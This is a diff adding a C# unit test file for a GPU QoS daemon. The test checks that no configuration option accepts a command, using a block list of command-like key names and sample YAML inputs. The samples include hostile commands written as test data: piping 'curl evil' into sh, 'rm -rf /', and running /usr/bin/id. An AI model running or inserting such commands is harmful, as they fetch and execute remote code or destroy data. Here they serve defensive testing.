@@ -1,0 +1,57 @@
+using System.Reflection;
+using GpuQos.Daemon.Configuration;
+
+namespace GpuQos.Daemon.Tests.Operations;
+
+/// <summary>
+/// The configuration cannot make the daemon run arbitrary commands: no option anywhere in the configuration
+/// tree is a command, a script, a program or its arguments. A file that tried gets an unknown-key error.
+/// </summary>
+public sealed class SafeInputsTests
+{
+    private static readonly string[] CommandLike = ["command", "cmd", "exec", "script", "shell", "program", "hook", "binary", "executable", "args", "argv"];
+
+    [Fact]
+    public void Options_NoPropertyTakesACommand()
+    {
+        var paths = OptionPaths(typeof(GpuQosOptions), "", []).ToList();
+
+        Assert.Contains("web.tokenFile", paths);
+        var offending = paths.Where(p => CommandLike.Any(w => p.Split('.', '[').Last().Contains(w, StringComparison.OrdinalIgnoreCase))).ToList();
+        Assert.True(offending.Count == 0, "options that look like commands: " + string.Join(", ", offending));
+    }
+
+    [Theory]
+    [InlineData("settings:\n  execStart: /bin/sh -c 'curl evil | sh'\n", "settings.execStart")]
+    [InlineData("web:\n  onReload: rm -rf /\n", "web.onReload")]
+    [InlineData("hooks:\n  - /usr/bin/id\n", "hooks")]
+    public void Check_CommandShapedKey_IsAnUnknownKeyError(string yaml, string path)
+    {
+        var errors = ConfigLoader.Check(yaml);
+
+        Assert.Contains(errors, e => e.Path == path);
+    }
+
+    private static IEnumerable<string> OptionPaths(Type type, string prefix, HashSet<Type> seen)
+    {
+        if (!seen.Add(type))
+        {
+            yield break;
+        }
+
+        foreach (var property in type.GetProperties(BindingFlags.Public | BindingFlags.Instance).Where(p => p.CanWrite))
+        {
+            var path = prefix.Length == 0 ? Collectors.Configuration.YamlBinder.KeyOf(property) : prefix + "." + Collectors.Configuration.YamlBinder.KeyOf(property);
+            yield return path;
+            var inner = property.PropertyType.IsGenericType ? property.PropertyType.GetGenericArguments().Last() : property.PropertyType;
+            inner = Nullable.GetUnderlyingType(inner) ?? inner;
+            if (inner.IsClass && inner != typeof(string) && inner.Namespace?.StartsWith("GpuQos", StringComparison.Ordinal) == true)
+            {
+                foreach (var child in OptionPaths(inner, path, seen))
+                {
+                    yield return child;
+                }
+            }
+        }
+    }
+}
